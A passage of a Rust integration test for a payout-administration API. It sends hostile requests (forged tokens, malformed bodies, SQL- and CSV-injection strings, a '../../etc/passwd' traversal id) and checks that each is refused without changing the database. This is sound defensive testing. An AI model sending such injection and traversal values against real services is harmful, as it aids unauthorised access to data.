        ("run detail", get(format!("/api/admin/runs/{run}"))),
        ("run payouts", get(format!("/api/admin/runs/{run}/payouts"))),
        ("run results", get(format!("/api/admin/runs/{run}/results"))),
        ("run funds", get(format!("/api/admin/runs/{run}/funds"))),
        ("run attention", get(format!("/api/admin/runs/{run}/attention"))),
        ("run approve", req("POST", format!("/api/admin/runs/{run}/approve"))),
        ("run trigger", post(format!("/api/admin/runs/{run}/trigger"), json!({}))),
        (
            "run retry-failed",
            req("POST", format!("/api/admin/runs/{run}/retry-failed")),
        ),
        (
            "run funds-override confirm",
            post(
                format!("/api/admin/runs/{run}/funds-override"),
                json!({"action": "confirm"}),
            ),
        ),
        (
            "run bank file",
            get(format!("/api/admin/runs/{run}/bank-file?format=csv")),
        ),
        (
            "run bank file read",
            get(format!("/api/admin/runs/{run}/bank-file/{file}?format=csv")),
        ),
        (
            "run bank file settle",
            post(
                format!("/api/admin/runs/{run}/bank-file/{file}/settle"),
                json!({"action": "all_paid"}),
            ),
        ),
        ("bank file make", get("/api/admin/bank-files?format=csv")),
        (
            "bank file read",
            get(format!("/api/admin/bank-files/{file}?format=csv")),
        ),
        (
            "bank file settle",
            post(
                format!("/api/admin/bank-files/{file}/settle"),
                json!({"action": "all_paid"}),
            ),
        ),
        (
            "payout hold",
            patch(pend, json!({"action": "hold", "reason": "hostile hold"})),
        ),
        ("payout release", patch(&w.held, json!({"action": "release"}))),
        (
            "doctor hold",
            post(
                "/api/admin/doctors/dr-amina/hold".into(),
                json!({"action": "hold", "reason": "hostile hold"}),
            ),
        ),
        (
            "doctor release",
            post(
                format!("/api/admin/doctors/{}/hold", w.held_doctor),
                json!({"action": "release"}),
            ),
        ),
        ("held doctors", get("/api/admin/doctors/holds")),
    ];
    for (name, r) in &endpoints {
        for (what, tok, status, code) in bad_tokens() {
            let r = match &tok {
                Some(tok) => r.clone().bearer(tok),
                None => r.clone(),
            };
            t.push(case(format!("admin {name} with {what}"), r, Error(status, code)));
        }
        t.push(case(
            format!("admin {name} with a forged cookie token"),
            r.clone()
                .cookie(&token(Role::Admin, "admin-1", None, 3600, "wrong-secret")),
            Error(401, "unauthorized"),
        ));
    }

    // ---- paging and filters of the lists
    let paging = [
        ("limit 0", "limit=0"),
        ("limit -1", "limit=-1"),
        ("limit 1001", "limit=1001"),
        ("limit abc", "limit=abc"),
        ("skip -1", "skip=-1"),
        ("skip 2^64", "skip=18446744073709551616"),
        ("an unknown parameter", "page=2"),
        ("a bad percent escape", "limit=%ZZ"),
        ("a query that is not UTF-8", "limit=%FF%FE"),
    ];
    for path in [
        "/api/admin/runs".to_string(),
        "/api/admin/doctors/holds".to_string(),
        format!("/api/admin/runs/{run}/payouts"),
        format!("/api/admin/runs/{run}/results"),
        format!("/api/admin/runs/{run}/attention"),
    ] {
        for (what, q) in paging {
            t.push(case(
                format!("{path} with {what}"),
                get(format!("{path}?{q}")).bearer(a),
                bad(),
            ));
        }
    }
    let run_payouts = format!("/api/admin/runs/{run}/payouts");
    for (what, q) in [
        ("status PAYED", "status=PAYED"),
        ("provider VENMO", "provider=VENMO"),
        ("held yes", "held=yes"),
        ("held 1", "held=1"),
        ("a 129-character doctor", &format!("doctor={}", "d".repeat(129))),
        ("a snake_case parameter", "doctor_id=dr-amina"),
        ("a date filter it does not take", "startDate=2025-01-01"),
        ("a bad percent escape", "status=%ZZ"),
        ("a doctor filter that is not UTF-8", "doctor=%FF%FE"),
    ] {
        t.push(case(
            format!("run payouts with {what}"),
            get(format!("{run_payouts}?{q}")).bearer(a),
            bad(),
        ));
    }
    for d in SQL_INJECTIONS.iter().chain(CSV_INJECTIONS) {
        t.push(case(
            format!("run payouts with doctor={d:?} (a string that matches no doctor)"),
            get(format!("{run_payouts}?doctor={}", enc(d))).bearer(a),
            EmptyList,
        ));
    }
    for (what, q) in [
        ("provider VENMO", "provider=VENMO"),
        (
            "a SQL-injection provider",
            &format!("provider={}", enc(SQL_INJECTIONS[1])),
        ),
        ("an unknown parameter", "currency=KES"),
        ("a bad percent escape", "provider=%ZZ"),
    ] {
        t.push(case(
            format!("run funds with {what}"),
            get(format!("/api/admin/runs/{run}/funds?{q}")).bearer(a),
            bad(),
        ));
    }

    // ---- run ids: injection and odd ids on every run route
    let mut odd_runs: Vec<(String, u16, &'static str)> = SQL_INJECTIONS
        .iter()
        .chain(CSV_INJECTIONS)
        .map(|s| (s.to_string(), 404, "run_not_found"))
        .collect();
    odd_runs.extend([
        ("run_does-not-exist".to_string(), 404, "run_not_found"),
        (run.to_uppercase(), 404, "run_not_found"),
        (format!("{run} "), 404, "run_not_found"),
        (format!("{run}\u{0}"), 404, "run_not_found"),
        ("../../etc/passwd".to_string(), 404, "run_not_found"),
        ("x".repeat(129), 400, "invalid_input"),
    ]);
    for (id, status, code) in &odd_runs {
        let e = enc(id);
        let shown: String = id.chars().take(40).collect();
        let expect = || Error(*status, code);
        for tail in ["", "/payouts", "/results", "/attention", "/funds"] {
            t.push(case(
                format!("run{tail} of id {shown:?}"),
                get(format!("/api/admin/runs/{e}{tail}")).bearer(a),
                expect(),
            ));
        }
        for action in ["approve", "retry-failed"] {
            t.push(case(
                format!("run {action} of id {shown:?}"),
                req("POST", format!("/api/admin/runs/{e}/{action}")).bearer(a),
                expect(),
            ));
        }
        t.push(case(
            format!("run trigger of id {shown:?}"),
            req("POST", format!("/api/admin/runs/{e}/trigger"))
                .bearer(a)
                .json(json!({"provider": "MPESA_B2C"})),
            expect(),
        ));
        t.push(case(
            format!("run funds-override request on id {shown:?}"),
            req("POST", format!("/api/admin/runs/{e}/funds-override"))
                .bearer(a)
                .json(json!({"action": "request", "reason": "hostile override"})),
            expect(),
        ));
        t.push(case(
            format!("run bank file of id {shown:?}"),
            get(format!("/api/admin/runs/{e}/bank-file?format=csv")).bearer(a),
            expect(),
        ));
    }
    for (what, r) in [
        ("run detail", get("/api/admin/runs/%FF%FE")),
        ("run payouts", get("/api/admin/runs/%FF%FE/payouts")),
        ("run approve", req("POST", "/api/admin/runs/%FF%FE/approve")),
        (
            "run trigger",
            req("POST", "/api/admin/runs/%FF%FE/trigger").json(json!({})),
        ),
        (
            "doctor hold",
            req("POST", "/api/admin/doctors/%FF%FE/hold").json(json!({"action": "hold", "reason": "hostile hold"})),
        ),
        ("bank file read", get("/api/admin/bank-files/%FF%FE?format=csv")),
        (
            "bank file settle",
            req("POST", "/api/admin/bank-files/%FF%FE/settle").json(json!({"action": "all_paid"})),
        ),
    ] {
        t.push(case(format!("{what} of an id that is not UTF-8"), r.bearer(a), bad()));
    }

    // ---- POST /api/admin/runs: no valid selection, so no run is made
    let create = |v: Value| req("POST", "/api/admin/runs").bearer(a).json(v);
    let nobody = "dr-nobody";
    for (what, v) in [
        ("no label", json!({"doctor": "dr-amina"})),
        ("an empty label", json!({"label": "", "doctor": "dr-amina"})),
        ("a blank label", json!({"label": "   ", "doctor": "dr-amina"})),
        (
            "a 201-character label",
            json!({"label": "l".repeat(201), "doctor": "dr-amina"}),
        ),
        ("label a number", json!({"label": 7, "doctor": "dr-amina"})),
        ("label null", json!({"label": null, "doctor": "dr-amina"})),
        ("status PAYED", json!({"label": "r", "status": "PAYED"})),
        ("provider VENMO", json!({"label": "r", "provider": "VENMO"})),
        ("held a string", json!({"label": "r", "held": "yes"})),
        ("doctor a number", json!({"label": "r", "doctor": 7})),
        (
            "a 129-character doctor",
            json!({"label": "r", "doctor": "d".repeat(129)}),
        ),
        (
            "startDate February 30th",
            json!({"label": "r", "startDate": "2025-02-30"}),
        ),
        (
            "endDate a timestamp",
            json!({"label": "r", "endDate": "2025-01-31T00:00:00Z"}),
        ),
        (
            "endDate before startDate",
            json!({"label": "r", "startDate": "2025-02-01", "endDate": "2025-01-31"}),
        ),
        (
            "an unknown field (id)",
            json!({"label": "r", "doctor": "dr-amina", "id": "run_chosen"}),
        ),
        (
            "an unknown field (kind)",
            json!({"label": "r", "doctor": "dr-amina", "kind": "CALCULATION"}),
        ),
        (
            "an unknown field (payoutIds)",
            json!({"label": "r", "payoutIds": [pend]}),
        ),
        ("a snake_case field", json!({"label": "r", "start_date": "2025-01-01"})),
        (
            "a selection that matches nothing",
            json!({"label": "r", "doctor": nobody}),
        ),
        ("a status no payout has", json!({"label": "r", "status": "REVERSED"})),
        (
            "a future period",
            json!({"label": "r", "startDate": "2999-01-01", "endDate": "2999-01-31"}),
        ),
    ] {
        t.push(case(format!("run create with {what}"), create(v), bad()));
    }
    for d in SQL_INJECTIONS.iter().chain(CSV_INJECTIONS) {
        t.push(case(
            format!("run create for doctor {d:?} (matches nothing)"),
            create(json!({"label": "injected", "doctor": d})),
            bad(),
        ));
    }
    for l in CSV_INJECTIONS {
        t.push(case(
            format!("run create labelled {l:?} with a selection that matches nothing"),
            create(json!({"label": l, "doctor": nobody})),
            bad(),
        ));
    }

    // ---- bodies of the run actions and the hold routes
    let json_routes: Vec<(&str, String, Value)> = vec![
        (
            "run create",
            "/api/admin/runs".into(),
            json!({"label": "r", "doctor": "dr-amina"}),
        ),
        (
            "run trigger",
            format!("/api/admin/runs/{run}/trigger"),
            json!({"provider": "MPESA_B2C"}),
        ),
        (
            "run funds-override",
            format!("/api/admin/runs/{run}/funds-override"),
            json!({"action": "confirm"}),
        ),
        (
            "doctor hold",
            "/api/admin/doctors/dr-amina/hold".into(),
            json!({"action": "hold", "reason": "hostile hold"}),
        ),
        (
            "bank file settle",
            format!("/api/admin/bank-files/{file}/settle"),
            json!({"action": "all_paid"}),
        ),
        (
            "run bank file settle",
            format!("/api/admin/runs/{run}/bank-file/{file}/settle"),
            json!({"action": "all_paid"}),
        ),
    ];
    for (name, path, valid) in &json_routes {
        let post = || req("POST", path.clone()).bearer(a);
        let text = valid.to_string();
        for (what, body) in [
            ("an empty body", String::new()),
            ("truncated JSON", text[..text.len() - 1].to_string()),
            ("trailing garbage", format!("{text} x")),
            ("two JSON documents", format!("{text}{{}}")),
            ("a JSON array", format!("[{text}]")),
            ("JSON null", "null".to_string()),
            ("single quotes", text.replace('"', "'")),
        ] {
            t.push(case(format!("{name} with {what}"), post().json_bytes(body), bad()));
        }
        t.push(case(
            format!("{name} with invalid UTF-8"),
            post().json_bytes([&text.as_bytes()[..text.len() - 2], b"\xff\xfe\"}"].concat()),
            bad(),
        ));
        t.push(case(
            format!("{name} with 10,000-deep nesting"),
            post().json_bytes(nested(10_000)),
            bad(),
        ));
        t.push(case(
            format!("{name} without a Content-Type"),
            post().body(text.clone()),
            bad(),
        ));
        t.push(case(
            format!("{name} as a form"),
            post().form("action=all_paid&label=r"),
            bad(),
        ));
        t.push(case(
            format!("{name} with a body over 256 KiB"),
            post().json(json!({"action": "hold", "label": "x".repeat(HUGE), "reason": "x".repeat(HUGE)})),
            Error(413, "payload_too_large"),
        ));
    }
    let trigger = |v: Value| req("POST", format!("/api/admin/runs/{run}/trigger")).bearer(a).json(v);
    for (what, v) in [
        ("provider VENMO", json!({"provider": "VENMO"})),
        ("provider a number", json!({"provider": 3})),
        ("an empty provider", json!({"provider": ""})),
        ("a SQL-injection provider", json!({"provider": SQL_INJECTIONS[1]})),
        (
            "an unknown field (force)",
            json!({"provider": "MPESA_B2C", "force": true}),
        ),
        ("an unknown field (payoutIds)", json!({"payoutIds": [pend]})),
    ] {
        t.push(case(format!("run trigger with {what}"), trigger(v), bad()));
    }
    let over = |v: Value| {
        req("POST", format!("/api/admin/runs/{run}/funds-override"))
            .bearer(a)
            .json(v)
    };
    for (what, v) in [
        ("no action", json!({"reason": "short of funds"})),
        (
            "an unknown action",
            json!({"action": "approve", "reason": "short of funds"}),
        ),
        ("an upper-case action", json!({"action": "CONFIRM"})),
        ("a request without a reason", json!({"action": "request"})),
        (
            "a request with an empty reason",
            json!({"action": "request", "reason": ""}),
        ),
        (
            "a request with a blank reason",
            json!({"action": "request", "reason": "  \t "}),
        ),
        (
            "a request with a 501-character reason",
            json!({"action": "request", "reason": "r".repeat(501)}),
        ),
        (
            "a request with reason a number",
            json!({"action": "request", "reason": 5}),
        ),
        (
            "a confirm with an unknown field",
            json!({"action": "confirm", "confirmedBy": "admin-9"}),
        ),
        (
            "a request with an unknown field",
            json!({"action": "request", "reason": "r", "confirmedBy": "admin-9"}),
        ),
        (
            "a second request while one is pending",
            json!({"action": "request", "reason": "another reason"}),
        ),
    ] {
        t.push(case(format!("funds override with {what}"), over(v), bad()));
    }
    t.push(case(
        "funds override confirmed by the admin who requested it",
        req("POST", format!("/api/admin/runs/{run}/funds-override"))
            .bearer(&w.creator)
            .json(json!({"action": "confirm"})),
        Error(403, "forbidden"),
    ));

    // ---- holds of doctors
    let dr = |id: &str, v: Value| {
        req("POST", format!("/api/admin/doctors/{}/hold", enc(id)))
            .bearer(a)
            .json(v)
    };
    for (what, v) in [
        ("no action", json!({"reason": "audit"})),
        ("an unknown action", json!({"action": "freeze", "reason": "audit"})),
        ("an upper-case action", json!({"action": "HOLD", "reason": "audit"})),
        ("a hold without a reason", json!({"action": "hold"})),
        ("a hold with an empty reason", json!({"action": "hold", "reason": ""})),
        (
            "a hold with a blank reason",
            json!({"action": "hold", "reason": " \r\n "}),
        ),
        (
            "a hold with a 501-character reason",
            json!({"action": "hold", "reason": "r".repeat(501)}),
        ),
        ("a hold with reason null", json!({"action": "hold", "reason": null})),
        (
            "a hold with an unknown field (placedBy)",
            json!({"action": "hold", "reason": "audit", "placedBy": "admin-9"}),
        ),
        (
            "a release with an unknown field",
            json!({"action": "release", "reason": "done"}),
        ),
    ] {
        t.push(case(format!("doctor hold with {what}"), dr("dr-amina", v), bad()));
    }
    for d in SQL_INJECTIONS.iter().chain(CSV_INJECTIONS) {
        t.push(case(
            format!("doctor {d:?} held without a reason"),
            dr(d, json!({"action": "hold", "reason": ""})),
            bad(),
        ));
        t.push(case(
            format!("doctor {d:?} released (not held)"),
            dr(d, json!({"action": "release"})),
            Error(404, "doctor_not_held"),
        ));
    }
    for d in ["dr-amina", "dr-nobody", "DR-WANJIRU", "dr-wanjiru "] {
        t.push(case(
            format!("doctor {d:?} released while not held"),
            dr(d, json!({"action": "release"})),
            Error(404, "doctor_not_held"),
        ));
    }
    t.push(case(
        "a held doctor held again",
        dr(&w.held_doctor, json!({"action": "hold", "reason": "once more"})),
        Error(409, "doctor_already_held"),
    ));
    t.push(case(
        "a doctor released by the admin who held the doctor (four eyes)",
        req("POST", format!("/api/admin/doctors/{}/hold", w.held_doctor))
            .bearer(&w.creator)
            .json(json!({"action": "release"})),
        Error(403, "forbidden"),
    ));
    t.push(case(
        "a 129-character doctor held",
        dr(&"d".repeat(129), json!({"action": "hold", "reason": "audit"})),
        bad(),
    ));

    // ---- holds of payouts (PATCH /api/admin/payouts/{id})
    let hold = |id: &str, v: Value| {
        req("PATCH", format!("/api/admin/payouts/{}", enc(id)))
            .bearer(a)
            .json(v)
    };
    for (what, v) in [
        ("a hold without a reason", json!({"action": "hold"})),
        ("a hold with an empty reason", json!({"action": "hold", "reason": ""})),
        ("a hold with a blank reason", json!({"action": "hold", "reason": "   "})),
        (
            "a hold with a 501-character reason",
            json!({"action": "hold", "reason": "r".repeat(501)}),
        ),
        ("a hold with reason a number", json!({"action": "hold", "reason": 1})),
        (
            "a hold with an unknown field (scope)",
            json!({"action": "hold", "reason": "audit", "scope": "DOCTOR"}),
        ),
        (
            "a release with an unknown field",
            json!({"action": "release", "reason": "done"}),
        ),
        ("a release of a payout not on hold", json!({"action": "release"})),
    ] {
        t.push(case(format!("payout {what}"), hold(pend, v), bad()));
    }
    for (what, id) in [("a PAID payout", &w.paid), ("a payout on hold already", &w.held)] {
        t.push(case(
            format!("hold of {what}"),
            hold(id, json!({"action": "hold", "reason": "audit"})),
            bad(),
        ));
    }
    t.push(case(
        "release of a PAID payout (not held)",
        hold(&w.paid, json!({"action": "release"})),
        bad(),
    ));
    t.push(case(
        "a payout released by the admin who held it (four eyes)",
        req("PATCH", format!("/api/admin/payouts/{}", w.held))
            .bearer(&w.creator)
            .json(json!({"action": "release"})),
        Error(403, "forbidden"),
    ));
    for id in SQL_INJECTIONS.iter().chain(CSV_INJECTIONS) {
        t.push(case(
            format!("hold of payout id {id:?}"),
            hold(id, json!({"action": "hold", "reason": "audit"})),
            Error(404, "not_found"),
        ));
        t.push(case(
            format!("release of payout id {id:?}"),
            hold(id, json!({"action": "release"})),
            Error(404, "not_found"),
        ));
    }

    // ---- bank files: formats, selections, ids, settlements
    for (what, q, expect) in [
        ("no format", "", bad()),
        ("format xlsx", "format=xlsx", bad()),
        ("format CSV in upper case", "format=CSV", bad()),
        ("an empty format", "format=", bad()),
        (
            "a SQL-injection format",
            &format!("format={}", enc(SQL_INJECTIONS[0])),
            bad(),
        ),
        ("two formats", "format=csv&format=nacha", bad()),
        ("status PAYED", "format=csv&status=PAYED", bad()),
        ("provider VENMO", "format=csv&provider=VENMO", bad()),
        ("startDate February 30th", "format=csv&startDate=2025-02-30", bad()),
        (
            "endDate before startDate",
            "format=csv&startDate=2025-02-01&endDate=2025-01-31",
            bad(),
        ),
        ("an unknown parameter (limit)", "format=csv&limit=10", bad()),
        (
            "an unknown parameter (payoutIds)",
            &format!("format=csv&payoutIds={pend}"),
            bad(),
        ),
        ("a bad percent escape", "format=csv&status=%ZZ", bad()),
        ("a query that is not UTF-8", "format=csv&doctor=%FF%FE", bad()),
        (
            "format pain001, not configured",
            "format=pain001",
            Error(422, "bank_file_not_configured"),
        ),
        (
            "format nacha, not configured",
            "format=nacha",
            Error(422, "bank_file_not_configured"),
        ),
        (
            "a selection of no bank payout",
            "format=csv&doctor=dr-amina",
            Error(422, "nothing_to_send"),
        ),
        (
            "a selection of PAID payouts (only APPROVED ones are sent)",
            "format=csv&status=PAID",
            bad(),
        ),
        (
            "a doctor filter with a bad percent escape (a string that matches nothing)",
            "format=csv&doctor=%ZZ",
            Error(422, "nothing_to_send"),
        ),
    ] {
        t.push(case(
            format!("bank file make with {what}"),
            get(format!("/api/admin/bank-files?{q}")).bearer(a),
            expect,
        ));
    }
    for d in SQL_INJECTIONS.iter().chain(CSV_INJECTIONS) {
        t.push(case(
            format!("bank file make for doctor {d:?} (matches nothing)"),
            get(format!("/api/admin/bank-files?format=csv&doctor={}", enc(d))).bearer(a),
            Error(422, "nothing_to_send"),
        ));
    }
    for (what, q, expect) in [
        ("no format", "", bad()),
        ("format xlsx", "format=xlsx", bad()),
        ("an unknown parameter", "format=csv&download=1", bad()),
        ("a bad percent escape", "format=%ZZ", bad()),
        (
            "format pain001, not configured",
            "format=pain001",
            Error(422, "bank_file_not_configured"),
        ),
    ] {
        t.push(case(
            format!("bank file read with {what}"),
            get(format!("/api/admin/bank-files/{file}?{q}")).bearer(a),
            expect.clone(),
        ));
        t.push(case(
            format!("run bank file with {what}"),
            get(format!("/api/admin/runs/{run}/bank-file?{q}")).bearer(a),
            expect,
        ));
    }
    let hex = &file["bf-".len()..];
    let mut odd_files: Vec<(String, u16, &'static str)> = vec![
        (format!("bf-{}", &hex[..31]), 400, "invalid_input"),
        (format!("{file}0"), 400, "invalid_input"),
        (format!("bf-{}", hex.to_uppercase()), 400, "invalid_input"),
        (format!("BF-{hex}"), 400, "invalid_input"),
        (format!("bf-{}g", &hex[..31]), 400, "invalid_input"),
        (format!("bf_{hex}"), 400, "invalid_input"),
        (hex.to_string(), 400, "invalid_input"),
        (format!("{file} "), 400, "invalid_input"),
        (format!("{file}\u{0}"), 400, "invalid_input"),
        ("../../etc/passwd".to_string(), 400, "invalid_input"),
        ("x".repeat(129), 400, "invalid_input"),
        (w.paid.clone(), 400, "invalid_input"),
        (w.paid_ref.clone(), 400, "invalid_input"),
        (format!("bf-{}", "0".repeat(32)), 404, "bank_file_not_found"),
        (format!("bf-{}", "f".repeat(32)), 404, "bank_file_not_found"),
    ];
    odd_files.extend(
        SQL_INJECTIONS
            .iter()
            .chain(CSV_INJECTIONS)
            .map(|s| (s.to_string(), 400, "invalid_input")),
    );
    for (id, status, code) in &odd_files {
        let e = enc(id);
        let shown: String = id.chars().take(40).collect();
        t.push(case(
            format!("bank file read of id {shown:?}"),
            get(format!("/api/admin/bank-files/{e}?format=csv")).bearer(a),
            Error(*status, code),
        ));
        t.push(case(
            format!("bank file settle of id {shown:?}"),
            req("POST", format!("/api/admin/bank-files/{e}/settle"))
                .bearer(a)
                .json(json!({"action": "all_paid"})),
            Error(*status, code),
        ));
        t.push(case(
            format!("run bank file read of id {shown:?}"),
            get(format!("/api/admin/runs/{run}/bank-file/{e}?format=csv")).bearer(a),
            Error(*status, code),
        ));
        t.push(case(
            format!("run bank file settle of id {shown:?}"),
            req("POST", format!("/api/admin/runs/{run}/bank-file/{e}/settle"))
                .bearer(a)
                .json(json!({"action": "all_paid"})),
            Error(*status, code),
        ));
    }
    // The set-up's file holds a manual payout, which is no member of the run: not a file of the run.
    t.push(case(
        "read of a file that is not the run's",
        get(format!("/api/admin/runs/{run}/bank-file/{file}?format=csv")).bearer(a),
        Error(404, "bank_file_not_found"),
    ));
    t.push(case(
        "settle of a file that is not the run's",
        req("POST", format!("/api/admin/runs/{run}/bank-file/{file}/settle"))
            .bearer(a)
            .json(json!({"action": "all_paid"})),
        Error(404, "bank_file_not_found"),
    ));
    t.push(case(
        "settle of a real file under a run that does not exist",
        req(
            "POST",
            format!("/api/admin/runs/run_does-not-exist/bank-file/{file}/settle"),
        )
        .bearer(a)
        .json(json!({"action": "all_paid"})),
        Error(404, "run_not_found"),
    ));
    let settle = |v: Value| {
        req("POST", format!("/api/admin/bank-files/{file}/settle"))
            .bearer(a)
            .json(v)
    };
    let member = w.banked.as_str();
    let item = |reference: &str, reason: &str| json!({"reference": reference, "reason": reason});
    for (what, v) in [
        ("no action", json!({"items": [item(member, "R01")]})),
        ("an unknown action", json!({"action": "all_returned"})),
        ("an upper-case action", json!({"action": "ALL_PAID"})),
        ("action a number", json!({"action": 1})),
        (
            "all_paid with items",
            json!({"action": "all_paid", "items": [item(member, "R01")]}),
        ),
        ("returned without items", json!({"action": "returned"})),
        ("returned with no item", json!({"action": "returned", "items": []})),
        (
            "returned with items a string",
            json!({"action": "returned", "items": member}),
        ),
        (
            "returned with an item that is a string",
            json!({"action": "returned", "items": [member]}),
        ),
        (
            "an item without a reason",
            json!({"action": "returned", "items": [{"reference": member}]}),
        ),
        (
            "an item without a reference",
            json!({"action": "returned", "items": [{"reason": "R01"}]}),
        ),
        (
            "an item with an empty reason",
            json!({"action": "returned", "items": [item(member, "")]}),
        ),
        (
            "an item with a blank reason",
            json!({"action": "returned", "items": [item(member, "  ")]}),
        ),
        (
            "an item with a 501-character reason",
            json!({"action": "returned", "items": [item(member, &"r".repeat(501))]}),
        ),
        (
            "an item with an unknown field",
            json!({"action": "returned", "items": [{"reference": member, "reason": "R01", "status": "PAID"}]}),
        ),
        (
            "an unknown field (status)",
            json!({"action": "all_paid", "status": "PAID"}),
        ),
        (
            "the member named twice",
            json!({"action": "returned", "items": [item(member, "R01"), item(member, "R02")]}),
        ),
    ] {
        t.push(case(format!("settle with {what}"), settle(v), bad()));
    }
    let unknown_item = || Error(400, "unknown_item");
    let mut not_in_file: Vec<(String, String)> = vec![
        ("a payout that does not exist".into(), "po-not-in-file".into()),
        ("a PENDING payout not in the file".into(), w.pending.clone()),
        ("the doctor's other, APPROVED payout".into(), w.approved.clone()),
        ("a PAID payout's provider reference".into(), w.paid_ref.clone()),
        ("the file's own id".into(), file.to_string()),
        ("the member's id in upper case".into(), member.to_uppercase()),
    ];
    not_in_file.extend(
        SQL_INJECTIONS
            .iter()
            .chain(CSV_INJECTIONS)
            .map(|s| (format!("{s:?}"), s.to_string())),
    );
    for (what, reference) in &not_in_file {
        t.push(case(
            format!("settle naming {what}"),
            settle(json!({"action": "returned", "items": [item(reference, "R01")]})),
            unknown_item(),
        ));
    }
    t.push(case(
        "settle naming the member and a payout not in the file",
        settle(json!({"action": "returned", "items": [item(member, "R01"), item(&w.pending, "R01")]})),
        unknown_item(),
    ));

    // ---- methods the new routes do not answer
    for (method, path) in [
        ("DELETE", format!("/api/admin/runs/{run}")),
        ("PATCH", format!("/api/admin/runs/{run}")),
        ("GET", format!("/api/admin/runs/{run}/approve")),
        ("GET", format!("/api/admin/runs/{run}/trigger")),
        ("PUT", format!("/api/admin/runs/{run}/funds-override")),
        ("DELETE", format!("/api/admin/doctors/{}/hold", w.held_doctor)),
        ("GET", "/api/admin/doctors/dr-amina/hold".to_string()),
        ("POST", "/api/admin/doctors/holds".to_string()),
        ("POST", "/api/admin/bank-files".to_string()),
        ("DELETE", format!("/api/admin/bank-files/{file}")),
        ("GET", format!("/api/admin/bank-files/{file}/settle")),
        ("POST", format!("/api/admin/runs/{run}/bank-file")),
    ] {
        t.push(case(
            format!("{method} {path}"),
            req(method, path).bearer(a).json(json!({"action": "all_paid"})),
            Error(405, "method_not_allowed"),
        ));
    }
    t
}

/// The delivered event with the same id but the status flipped: a mutated replay.
fn paid_failed_with_id(event: &Value) -> String {
    let mut e = event.clone();
    e["status"] = json!("FAILED");
    e["reason"] = json!("mutated replay");
    e.to_string()
}

async fn set_up(s: &Server) -> World {
    let creator = admin("admin-1");
    let admin = admin("admin-2");
    let list = s.ok(get("/api/admin/payouts?limit=100").bearer(&admin)).await;
    let id_of = |doctor: &str| {
        list["data"]
            .as_array()
            .unwrap()
            .iter()
            .find(|p| p["doctorId"] == doctor)
            .unwrap()["id"]
            .as_str()
            .unwrap()
            .to_string()
    };
    let (paid, processing, approved) = (id_of("dr-wanjiru"), id_of("dr-otieno"), id_of("dr-kipchoge"));
    let (pending, pending2) = (id_of("dr-amina"), id_of("dr-njeri"));
    let patch = |id: &str, body: Value| {
        req("PATCH", format!("/api/admin/payouts/{id}"))
            .bearer(&admin)
            .json(body)
    };
    let runs = s.ok(get("/api/admin/runs").bearer(&admin)).await;
    let runs = runs["data"].as_array().unwrap();
    assert_eq!(runs.len(), 1, "the sample data's calculation made one run: {runs:?}");
    assert_eq!(runs[0]["run"]["kind"], "CALCULATION", "{runs:?}");
    let run = runs[0]["run"]["id"].as_str().unwrap().to_string();
    // A bank file of a manual payout of dr-kipchoge (the one doctor with bank details), made while the calculated
    // payout of dr-kipchoge is still PENDING, so the file holds the manual one only.
    let banked = s
        .ok(req("POST", "/api/admin/payouts")
            .bearer(&creator)
            .json(json!({"doctorId": "dr-kipchoge", "amount": "300.00", "notes": "set-up bank file payout"})))
        .await["data"]["id"]
        .as_str()
        .unwrap()
        .to_string();
    s.ok(patch(&banked, json!({"action": "approve"}))).await;
    let made = s
        .send(&get("/api/admin/bank-files?format=csv&doctor=dr-kipchoge").bearer(&admin))
        .await;
    assert_eq!(made.status, 200, "{}", String::from_utf8_lossy(&made.body));
    assert_eq!(made.bank_file_transfers, "1", "the file holds the manual payout only");
    let bank_file = made.bank_file_id;
    for id in [&paid, &processing, &approved] {
        s.ok(patch(id, json!({"action": "approve"}))).await;
    }
    let paid_ref = s
        .ok(patch(&paid, json!({"action": "trigger", "provider": "MPESA_B2C"})))
        .await["data"]["providerReference"]
        .as_str()
        .unwrap()
        .to_string();
    let processing_ref = s
        .ok(patch(
            &processing,
            json!({"action": "trigger", "provider": "STRIPE_CONNECT"}),
        ))
        .await["data"]["providerReference"]
        .as_str()
        .unwrap()
        .to_string();
    let paid_event = json!({"eventId": "setup-evt-1", "reference": paid_ref, "status": "PAID"});
    let delivered = s
        .ok(req("POST", "/api/webhooks/mpesa-b2c")
            .header("content-type", "application/json")
            .sim(SIM)
            .body(paid_event.to_string()))
        .await;
    assert_eq!(delivered["data"]["events"][0]["result"], "applied", "{delivered}");
    let manual = s
        .ok(req("POST", "/api/admin/payouts")
            .bearer(&creator)
            .json(json!({"doctorId": "dr-njeri", "amount": "250.00", "notes": "set-up manual payout"})))
        .await["data"]["id"]
        .as_str()
        .unwrap()
        .to_string();
    let detail = s.ok(get(format!("/api/admin/payouts/{paid}")).bearer(&admin)).await;
    assert_eq!(detail["data"]["status"], "PAID");
    // Holds and a funds override placed by `creator`, for the refusals of a second hold, of a release or a
    // confirmation by the same admin (four eyes), and of a second override.
    let held = pending2.clone();
    s.ok(req("PATCH", format!("/api/admin/payouts/{held}"))
        .bearer(&creator)
        .json(json!({"action": "hold", "reason": "set-up: held by admin-1"})))
        .await;
    // dr-wanjiru's only payout is PAID, so the doctor's hold holds no payout and changes no other case.
    let held_doctor = "dr-wanjiru".to_string();
    s.ok(req("POST", format!("/api/admin/doctors/{held_doctor}/hold"))
        .bearer(&creator)
        .json(json!({"action": "hold", "reason": "set-up: doctor held by admin-1"})))
        .await;
    s.ok(req("POST", format!("/api/admin/runs/{run}/funds-override"))
        .bearer(&creator)
        .json(json!({"action": "request", "reason": "set-up: override asked by admin-1"})))
        .await;
    World {
        admin,
        creator,
        pending,
        pending2,
        approved,
        processing,
        processing_ref,
        paid,
        paid_ref,
        paid_event,
        manual,
        run,
        bank_file,
        banked,
        held,
        held_doctor,
    }
}

#[tokio::test]
async fn hostile_input_is_refused_and_changes_nothing() {
    let s = start().await;
    let w = set_up(&s).await;
    let table = cases(&w);
    if std::env::var_os("HOSTILE_LIST").is_some() {
        // `HOSTILE_LIST=1 cargo test ... -- --nocapture` lists the table.
        for (n, c) in table.iter().enumerate() {
            println!("{n:4} {:?} -> {:?}", c.what, c.expect);
        }
    }
    let mut before = dump(&s.db).await;
    assert!(before["payouts"].len() >= 6, "the set-up created the payouts");
    let mut failures = Vec::new();
    for (n, c) in table.iter().enumerate() {
        let res = s.send(&c.req).await;
        let mut problems = Vec::new();
        if let Err(why) = check(&c.expect, &res) {
            problems.push(why);
        }
        let after = dump(&s.db).await;
        if after != before {
            problems.push(format!("the database changed:\n{}", diff(&before, &after)));
            // Compare later cases against the changed state, so each change is reported once.
            before = after;
        }
